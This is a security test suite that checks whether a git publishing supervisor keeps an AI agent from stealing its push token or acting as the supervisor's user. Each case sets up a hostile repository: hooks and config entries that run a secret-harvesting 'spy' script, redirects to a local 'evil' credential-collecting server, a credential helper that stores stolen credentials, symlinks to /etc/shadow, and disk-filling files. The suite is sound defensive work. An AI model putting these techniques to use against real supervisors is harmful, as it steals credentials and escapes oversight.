// An agent that wants the push token or the supervisor's user, in every way we know a repository can run code or send
// git somewhere else. As root each case runs with an agent user of its own and with none (the same user); otherwise
// only with none, where nothing isolates but no git command that holds the token may touch the agent's files.
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { AgentUser } from "../process/run.ts";
import type { Workspace } from "./checkout.ts";
import {
  type GitWorld,
  openWorkspace,
  plainGit,
  publishOptions,
  startGitWorld,
  TOKEN,
  writeFiles,
} from "./git-fixture.ts";
import { publish } from "./publish.ts";

const AGENT_UID = 64_321;
const isRoot = process.getuid?.() === 0;
const users = isRoot ? (["a user of its own", "the same user"] as const) : (["the same user"] as const);

let world: GitWorld;
let evil: Server;
let evilUrl: string;
const evilSaw: string[] = [];
let evidence: string;

beforeAll(async () => {
  world = await startGitWorld();
  evidence = world.newFolder("evidence");
  chmodSync(evidence, 0o1777);
  evil = createServer((request, answer) => {
    evilSaw.push(JSON.stringify(request.headers) + (request.url ?? ""));
    answer.writeHead(401, { "www-authenticate": 'Basic realm="give it to me"' }).end();
  });
  await new Promise<void>((resolve) => evil.listen(0, "127.0.0.1", resolve));
  evilUrl = `http://127.0.0.1:${(evil.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await world.stop();
  evil.closeAllConnections();
  await new Promise((resolve) => evil.close(resolve));
});

/** A program that notes as whom it ran and all it can see of its parents' secrets. */
function spy(workspace: Workspace): string {
  const path = join(workspace.folder, "spy");
  const script = `#!/bin/sh
f=$(mktemp ${evidence}/XXXXXXXX)
{ id -u; env; pid=$$
while [ "$pid" -gt 1 ]; do
  tr '\\0' '\\n' < /proc/$pid/environ; tr '\\0' ' ' < /proc/$pid/cmdline
  pid=$(awk '/^PPid/ {print $2}' /proc/$pid/status)
done; cat "$HIVE_CREDENTIAL_PIPE"; ls -R ${join(world.folder, "private")} | head -50; } > "$f" 2>/dev/null </dev/null
exit 1
`;
  writeFileSync(path, script);
  chmodSync(path, 0o755);
  return path;
}

function config(workspace: Workspace, settings: Readonly<Record<string, string>>): void {
  for (const [key, value] of Object.entries(settings)) plainGit(workspace.repo, "config", key, value);
}

const HOOKS = [
  "pre-commit",
  "prepare-commit-msg",
  "commit-msg",
  "post-commit",
  "post-index-change",
  "reference-transaction",
  "pre-push",
  "post-checkout",
  "post-rewrite",
  "pre-auto-gc",
  "pre-receive",
  "update",
  "post-receive",
  "fsmonitor-watchman",
];

/** How the agent prepares its repository. The name says what it tries. */
const attacks: Readonly<Record<string, (workspace: Workspace, program: string) => void>> = {
  "hooks in .git/hooks and in a folder the config names": (workspace, program) => {
    for (const folder of [".git/hooks", "my-hooks"]) {
      mkdirSync(join(workspace.repo, folder), { recursive: true });
      for (const hook of HOOKS) symlinkSync(program, join(workspace.repo, folder, hook));
    }
    config(workspace, { "core.hooksPath": join(workspace.repo, "my-hooks") });
  },
  "programs named in the config": (workspace, program) =>
    config(workspace, {
      "core.fsmonitor": program,
      "core.sshCommand": program,
      "core.gitProxy": program,
      "core.askPass": program,
      "core.pager": program,
      "core.editor": program,
      "core.alternateRefsCommand": program,
      "credential.helper": program,
      "sequence.editor": program,
      "uploadpack.packObjectsHook": program,
      "gpg.program": program,
      "commit.gpgSign": "true",
      "diff.external": program,
      "interactive.diffFilter": program,
      "alias.add": `!${program}`,
      "alias.push": `!${program}`,
      "alias.upload-pack": `!${program}`,
      "browser.x.cmd": program,
      "include.path": "/dev/null",
    }),
  "filters, diff and merge drivers by attributes": (workspace, program) => {
    config(workspace, {
      "filter.x.clean": program,
      "filter.x.smudge": program,
      "filter.x.process": program,
      "diff.x.textconv": program,
      "diff.x.command": program,
      "merge.x.driver": program,
    });
    writeFiles(workspace.repo, { ".gitattributes": "* filter=x diff=x merge=x\n", "filtered.txt": "x\n" });
  },
  "other addresses, headers and proxies": (workspace) =>
    config(workspace, {
      [`url.${evilUrl}/.insteadOf`]: world.server.url,
      [`url.${evilUrl}/.pushInsteadOf`]: world.server.url,
      "remote.origin.url": `${evilUrl}/x`,
      "remote.origin.pushurl": `${evilUrl}/x`,
      "http.proxy": evilUrl,
      "http.extraHeader": "X-Evil: yes",
      "http.sslVerify": "false",
      "http.cookieFile": "/etc/passwd",
      "credential.helper": `store --file=${evidence}/stolen`,
    }),
  "a promisor remote that is fetched from when an object is missing": (workspace, program) =>
    config(workspace, {
      "core.repositoryFormatVersion": "1",
      "extensions.partialClone": "evil",
      "remote.evil.url": `ext::${program}`,
      "remote.evil.promisor": "true",
      "remote.evil.uploadpack": program,
      "protocol.allow": "always",
    }),
  "submodules with a config of their own": (workspace, program) => {
    plainGit(workspace.repo, "init", "-q", "sub");
    writeFiles(join(workspace.repo, "sub"), { "x.txt": "x\n" });
    plainGit(join(workspace.repo, "sub"), "add", "-A");
    plainGit(join(workspace.repo, "sub"), "commit", "-q", "-m", "sub");
    plainGit(join(workspace.repo, "sub"), "config", "core.fsmonitor", program);
    writeFiles(workspace.repo, {
      ".gitmodules": `[submodule "sub"]\n\tpath = sub\n\turl = ${evilUrl}/sub\n\tupdate = none\n`,
    });
    config(workspace, {
      "submodule.recurse": "true",
      "push.recurseSubmodules": "on-demand",
      "fetch.recurseSubmodules": "true",
    });
  },
  "another work tree, replaced objects, grafts and a shallow history": (workspace) => {
    config(workspace, { "core.worktree": "/etc", "core.bare": "false" });
    const head = execFileSync("git", ["--git-dir", join(workspace.repo, ".git"), "rev-parse", "HEAD"], {
      encoding: "utf8",
    }).trim();
    writeFiles(workspace.repo, { ".git/info/grafts": `${head}\n`, ".git/refs/replace/x": `${head}\n` });
  },
};

describe.each(users)("an agent under %s", (kind) => {
  const agent: AgentUser | undefined =
    kind === "the same user" ? undefined : { uid: AGENT_UID, gid: AGENT_UID, home: "/nonexistent" };

  async function attack(name: string, prepare: (workspace: Workspace, program: string) => void) {
    const repo = await world.makeRepo(`${name.replace(/\W/g, "").slice(0, 30)}-${agent?.uid ?? 0}.git`);
    const workspace = await openWorkspace(world, repo, agent === undefined ? {} : { agent });
    writeFiles(workspace.repo, { "work.txt": "the work\n" });
    prepare(workspace, spy(workspace));
    if (agent !== undefined) execFileSync("chown", ["-R", "-h", `${agent.uid}:${agent.gid}`, workspace.repo]);
    const before = new Set(readdirSync(evidence));
    const outcome = await publish(publishOptions(world, workspace));
    const notes = readdirSync(evidence).filter((file) => !before.has(file));
    return { repo, workspace, outcome, notes: notes.map((file) => join(evidence, file)) };
  }

  it.each(Object.keys(attacks))("gets no token and no other user by %s", async (name) => {
    const prepare = attacks[name];
    if (prepare === undefined) throw new Error(name);
    const { outcome, notes, repo } = await attack(name, prepare);
    // The work is published all the same: an agent's odd settings are no reason to lose it.
    expect(outcome).toMatchObject({ end: "published" });
    const clone = world.newFolder("clone");
    plainGit(clone, "clone", "-q", "--branch", "hive/job-1", join(world.folder, "served", repo), ".");
    expect(readFileSync(join(clone, "work.txt"), "utf8")).toBe("the work\n");
    for (const note of notes) {
      const text = readFileSync(note, "utf8");
      expect(text).not.toContain(TOKEN);
      expect(text).not.toContain(Buffer.from(`x-access-token:${TOKEN}`).toString("base64"));
      expect(text).not.toContain("HIVE_CREDENTIAL_PIPE=");
      if (agent !== undefined) expect(statSync(note).uid).toBe(agent.uid);
    }
    expect(evilSaw).toEqual([]);
    expect(existsSync(join(evidence, "stolen"))).toBe(false);
  });

  it("is read as the agent, so that links to what only the supervisor may see lead nowhere", async () => {
    const secretRepo = await world.makeRepo(`members-${agent?.uid ?? 0}.git`, { "secret.txt": "members only\n" });
    const other = await openWorkspace(world, secretRepo);
    const { repo, outcome } = await attack("links", (workspace) => {
      plainGit(workspace.repo, "config", "core.symlinks", "true");
      symlinkSync("/etc/shadow", join(workspace.repo, "shadow"));
      symlinkSync(other.mirror.folder, join(workspace.repo, "mirror"));
    });
    expect(outcome).toMatchObject({ end: "published" });
    const served = join(world.folder, "served", repo);
    // Links are committed as links; nothing followed them.
    expect(plainGit(served, "cat-file", "-p", "hive/job-1:shadow")).toBe("/etc/shadow");
    expect(plainGit(served, "ls-tree", "hive/job-1", "mirror")).toMatch(/^120000 blob/);
  });

  // Under the supervisor's own user nothing but the operator's decision keeps an agent from what that user can read.
  if (agent !== undefined) {
    it("cannot publish objects of a mirror that is not its own", async () => {
      const secretRepo = await world.makeRepo("members-only.git", { "secret.txt": "members only\n" });
      const other = await openWorkspace(world, secretRepo);
      const secretHead = plainGit(other.mirror.folder, "rev-parse", "refs/heads/main");
      const { outcome, repo } = await attack("alternates", (workspace) => {
        writeFileSync(
          join(workspace.repo, ".git/objects/info/alternates"),
          `${join(other.mirror.folder, "objects")}\n`,
          {
            flag: "a",
          },
        );
        writeFileSync(join(workspace.repo, ".git/refs/heads/hive/job-1"), `${secretHead}\n`);
      });
      // The head is not readable for the agent, so its repository counts as broken and is made anew from its files.
      expect(outcome).toMatchObject({ end: "published" });
      const served = join(world.folder, "served", repo);
      expect(() => plainGit(served, "cat-file", "-e", secretHead)).toThrow();
    });
  }

  it("loses no work by wrecking git's own folder", async () => {
    for (const [name, wreck] of Object.entries<(workspace: Workspace) => void>({
      file: (workspace) => {
        execFileSync("rm", ["-rf", join(workspace.repo, ".git")]);
        writeFileSync(join(workspace.repo, ".git"), "gitdir: /elsewhere/of-the-supervisor\n");
      },
      gone: (workspace) => void execFileSync("rm", ["-rf", join(workspace.repo, ".git")]),
      link: (workspace) => {
        execFileSync("rm", ["-rf", join(workspace.repo, ".git")]);
        symlinkSync(join(workspace.folder, "mirror.git"), join(workspace.repo, ".git"));
      },
      index: (workspace) => writeFileSync(join(workspace.repo, ".git", "index"), "garbage"),
      head: (workspace) => writeFileSync(join(workspace.repo, ".git", "HEAD"), "garbage"),
      config: (workspace) => writeFileSync(join(workspace.repo, ".git", "config"), "[garbage"),
      lock: (workspace) => writeFileSync(join(workspace.repo, ".git", "index.lock"), ""),
    })) {
      const { outcome } = await attack(`wrecked${name}`, wreck);
      expect([name, outcome.end]).toEqual([name, "published"]);
    }
  });

  it("cannot fill the disk or the memory with what it hands in", async () => {
    const repo = await world.makeRepo(`huge-${agent?.uid ?? 0}.git`);
    const workspace = await openWorkspace(world, repo, agent === undefined ? {} : { agent });
    execFileSync("sh", ["-c", 'head -c 3000000 /dev/urandom > "$1"', "sh", join(workspace.repo, "noise")]);
    if (agent !== undefined) chownSync(join(workspace.repo, "noise"), agent.uid, agent.gid);
    const packed = await publish(publishOptions(world, workspace, { limits: { packBytes: 1_000_000 } }));
    expect(packed, JSON.stringify(packed)).toMatchObject({
      end: "failed",
      error: { code: "work_too_large", kind: "work" },
    });
    const bomb = await openWorkspace(world, repo, { jobId: "bomb", ...(agent === undefined ? {} : { agent }) });
    execFileSync("sh", ["-c", 'head -c 30000000 /dev/zero | tr "\\0" "\\n" > "$1"', "sh", join(bomb.repo, "zeros")]);
    if (agent !== undefined) chownSync(join(bomb.repo, "zeros"), agent.uid, agent.gid);
    writeFiles(bomb.repo, { "lines.txt": "line\n".repeat(400_000) });
    const limits = { diffBytes: 1_000_000, memoryBytes: 500_000_000 };
    expect(await publish(publishOptions(world, bomb, { limits }))).toMatchObject({
      end: "failed",
      error: { code: "work_too_large" },
    });
  });

  it("cannot hand in a commit that git calls malformed", async () => {
    const { outcome, repo } = await attack("malformed", (workspace) => {
      const write = (type: string, input: string | Buffer): string =>
        execFileSync("git", ["-c", "safe.directory=*", "hash-object", "-t", type, "-w", "--stdin", "--literally"], {
          cwd: workspace.repo,
          input,
          encoding: "utf8",
        }).trim();
      const tree = write("tree", Buffer.concat([Buffer.from("100644 .git\0"), Buffer.from(write("blob", "x"), "hex")]));
      const commit = plainGit(workspace.repo, "commit-tree", "-p", "HEAD", "-m", "evil", tree);
      plainGit(workspace.repo, "update-ref", "HEAD", commit);
    });
    expect(outcome).toMatchObject({ end: "failed", error: { code: "objects_refused", kind: "work" } });
    expect(plainGit(join(world.folder, "served", repo), "branch", "--list", "hive/*")).toBe("");
  });

  it.each([".git/index", ".git/HEAD", ".git/config", ".git/info/exclude", ".gitignore", "sub/.gitattributes"])(
    "cannot make anybody wait for a pipe in the place of %s",
    async (path) => {
      const { outcome, repo } = await attack(`pipe ${path}`, (workspace) => {
        const pipe = join(workspace.repo, path);
        execFileSync("sh", ["-c", 'mkdir -p "$(dirname "$1")"; rm -f "$1"; mkfifo "$1"; chmod 666 "$1"', "sh", pipe]);
        writeFiles(workspace.repo, { "work.txt": "work" });
      });
      expect(outcome).toMatchObject({ end: "published" });
      expect(plainGit(join(world.folder, "served", repo), "show", "hive/job-1:work.txt")).toBe("work");
    },
  );

  it("cannot lead git to a pipe or a device by a link in git's own folder", async () => {
    const { outcome } = await attack("linked", (workspace) => {
      execFileSync("sh", ["-c", "rm .git/HEAD; ln -s /dev/zero .git/HEAD"], { cwd: workspace.repo });
      writeFiles(workspace.repo, { "work.txt": "work" });
    });
    expect(outcome).toMatchObject({ end: "published" });
  });
});
